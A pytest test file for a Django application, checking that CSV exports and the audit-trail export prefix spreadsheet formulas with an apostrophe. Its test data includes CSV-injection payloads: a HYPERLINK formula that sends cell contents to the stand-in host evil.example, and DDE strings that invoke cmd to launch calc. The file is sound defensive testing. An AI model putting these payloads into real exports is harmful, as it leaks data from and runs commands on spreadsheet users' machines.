"""CSV exports cannot smuggle a spreadsheet formula (issue 10): free text is stored
as given and escaped only where a spreadsheet would evaluate it."""

import csv
import io

import pytest
from django.db import transaction

from qualify import spreadsheet
from qualify.accounts.services import user_create
from qualify.audit import services as audit
from qualify.audit.models import AuditEvent
from tests.audit.helpers import run_audit

pytestmark = pytest.mark.requirement("P19")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
    assert spreadsheet.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Marriage", "a=b", " =not at start", "", 42, -3, None, 1.5])
def test_other_values_are_written_unchanged(value):
    assert spreadsheet.cell(value) == value


def test_both_writers_escape_every_cell():
    plain, mapped = io.StringIO(), io.StringIO()
    spreadsheet.writer(plain).writerows([["=1+1", "ok", -5]])
    writer = spreadsheet.dict_writer(mapped, ["reason", "n"])
    writer.writeheader()
    writer.writerows([{"reason": "@cmd", "n": 7}])
    assert next(csv.reader(io.StringIO(plain.getvalue()))) == ["'=1+1", "ok", "-5"]
    assert list(csv.DictReader(io.StringIO(mapped.getvalue()))) == [{"reason": "'@cmd", "n": "7"}]


def test_the_audit_export_escapes_a_reason_typed_as_a_formula(db, admin, tmp_path):
    user = user_create(actor=None, username="lena", printed_name="=cmd|'/C calc'!A0", password=None)
    reason = '=HYPERLINK("http://evil.example","Open")'
    with transaction.atomic():
        before = audit.state_of(user)
        user.printed_name = "Lena Berg"
        user.save(update_fields=["printed_name"])
        audit.record("account.updated", user, actor=admin, before=before, reason=reason)
    out = tmp_path / "trail.csv"
    error, _ = run_audit(
        "export", "--format", "csv", "--object", f"accounts.user:{user.pk}", "--out", str(out)
    )
    assert error is None
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows[-1]["reason"] == "'" + reason
    # The trail itself keeps the text exactly as typed.
    stored = AuditEvent.objects.filter(action="account.updated", object_id=str(user.pk)).get()
    assert stored.reason == reason
